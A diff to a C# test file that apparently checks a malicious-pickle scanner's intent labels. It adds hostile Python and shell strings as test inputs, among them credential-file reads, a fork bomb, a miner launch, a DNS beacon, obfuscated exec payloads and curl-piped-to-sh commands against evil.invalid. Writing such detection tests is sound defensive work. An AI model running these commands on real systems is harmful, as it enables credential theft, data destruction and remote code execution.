@@ -41,6 +41,15 @@ public sealed class IntentTests
     [InlineData("import picklescan.scanner as s; s._unsafe_globals.clear()", "scanner-tampering")]
     [InlineData("import time; time.sleep(10**9)", "denial-of-service")]
     [InlineData("print('you have been pwned')", "proof-of-concept")]
+    [InlineData("open('/root/.bashrc', 'a').write('x')", "persistence")]
+    [InlineData("import os\nwhile True: os.fork()", "denial-of-service")]
+    [InlineData("import subprocess; subprocess.Popen(['./xmrig', '-o', 'pool.invalid'])", "crypto-mining")]
+    [InlineData("import socket; socket.gethostbyname('abc.dnslog.cn')", "beacon")]
+    [InlineData("import urllib.request as u; open('x', 'wb').write(u.urlopen('http://evil.invalid').read())", "download-and-run")]
+    [InlineData("data = open('/home/u/.aws/credentials').read()", "credential-theft")]
+    [InlineData("# sent for a bug bounty on huntr", "research-lure")]
+    [InlineData("import base64; exec(base64.b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnL3gnKQ=='))", "file-tampering")]
+    [InlineData("exec(''.join(chr(ord(c) ^ 1) for c in '^^hlqnsu^^)&nr&(/rxrudl)&y&('))", "command-execution")]
     [InlineData("import webbrowser; webbrowser.open('https://example.invalid')", "proof-of-concept")]
     public void SourceHasIntent(string source, string intent) => Assert.Contains(intent, Intents(Call("builtins", "exec", source)).Select(i => i.Intent));
 
@@ -51,7 +60,28 @@ public sealed class IntentTests
     [InlineData("time", "sleep", "denial-of-service")]
     [InlineData("os", "getenv", "environment-theft")]
     [InlineData("fickling.hook", "run_hook", "scanner-tampering")]
+    [InlineData("saferpickle", "disable", "scanner-tampering")]
+    [InlineData("smtplib", "SMTP", "beacon")]
+    [InlineData("atexit", "register", "deferred-execution")]
+    [InlineData("weakref", "finalize", "deferred-execution")]
+    [InlineData("pathlib", "PosixPath.write_text", "file-tampering")]
+    [InlineData("logging", "FileHandler", "file-tampering")]
+    [InlineData("os", "abort", "denial-of-service")]
+    [InlineData("subprocess", "Popen", "command-execution")]
     public void CallHasIntent(string module, string name, string intent) => Assert.Contains(intent, Intents(Call(module, name, "x")).Select(i => i.Intent));
+
+    [Theory]
+    [InlineData("curl http://evil.invalid/x")]
+    [InlineData("wget -q http://evil.invalid/x -O /tmp/x")]
+    public void WhatIsOnlyFetchedIsNotRun(string command) =>
+        Assert.DoesNotContain(Intents(Call("os", "system", command)), i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });
+
+    [Theory]
+    [InlineData("curl http://evil.invalid/x|sh")]
+    [InlineData("bash -c 'curl -s http://evil.invalid/x | bash'")]
+    [InlineData("python3 -c \"import os; os.popen('wget -qO- http://evil.invalid/x | sh')\"")]
+    public void WhatIsFetchedAndPipedIsRun(string command) =>
+        Assert.Contains(Intents(Call("os", "system", command)), i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });
 
     [Theory]
     [InlineData("id")]
